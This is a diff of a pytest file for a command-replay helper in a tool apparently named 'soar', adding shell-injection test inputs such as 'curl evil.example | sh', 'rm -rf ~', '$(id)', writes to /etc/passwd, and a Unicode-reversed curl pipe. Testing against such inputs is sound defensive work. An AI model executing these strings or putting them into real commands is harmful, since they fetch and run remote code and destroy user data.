@@ -35,15 +35,58 @@ def test_what_was_typed_is_shown_again(quick: Assessment) -> None:
 
 
 @pytest.mark.parametrize(
-    "command", [None, "", "pytest -q", "train.py --epochs 2", "soar report runs/a", "soar"]
+    "command",
+    [
+        None,
+        "",
+        7,
+        ["soar", "train", "x"],
+        "pytest -q",
+        "train.py --epochs 2",
+        "soar report runs/a",
+        "soar",
+        "soar train x; curl evil.example | sh",
+        "soar train x && rm -rf ~",
+        "soar train $(id)",
+        "soar train `id`",
+        "soar train x > /etc/passwd",
+        "soar train x\nrm -rf ~",
+        "soar train x #",
+        "soar train ~/x",
+        "soar train *",
+        "soar train 'x",
+        'soar train "$HOME"',
+        "soar train x\\;id",
+        "soar train 'x\ny'",
+        "soar train 'x\x1b[2J'",
+        "soar train '\u202ehs | live lruc'",
+        "X=1 soar train x",
+        "/tmp/soar train x",
+        " soar train x",
+        "soar  train x",
+        "soar train;id x",
+        f"soar train {'x' * 3000}",
+    ],
 )
-def test_what_was_made_otherwise_is_repeated_from_the_recipe(quick: Assessment, command: str | None) -> None:
+def test_what_was_made_otherwise_is_repeated_from_the_recipe(quick: Assessment, command: object) -> None:
     environment = {} if command is None else {"command": command}
     assert commands(Path("runs/my run"), environment, quick, is_diagnosed=False) == (
         "soar train 'runs/my run/recipe.toml'",
         "soar evaluate 'runs/my run' --examples 4 --seed 5 --attacks quick",
         "soar report 'runs/my run'",
     )
+
+
+@pytest.mark.parametrize("name", ["a; id", "$(id)", "it's", "a b", "*.toml", "caf\u00e9"])
+def test_quoted_words_stay_words(quick: Assessment, name: str) -> None:
+    noted = shlex.join(["soar", "train", name, "--output", "runs/a"])
+    first, *_ = commands(Path("a"), {"command": noted}, quick, is_diagnosed=False)
+    assert first == noted and shlex.split(first) == ["soar", "train", name, "--output", "runs/a"]
+
+
+def test_a_folder_with_control_characters_stays_one_line(quick: Assessment) -> None:
+    lines = commands(Path("a\nb\x1b[2J"), {}, quick, is_diagnosed=True)
+    assert all(line.isprintable() for line in lines)
 
 
 def test_a_module_that_was_run_is_named_so(quick: Assessment) -> None:
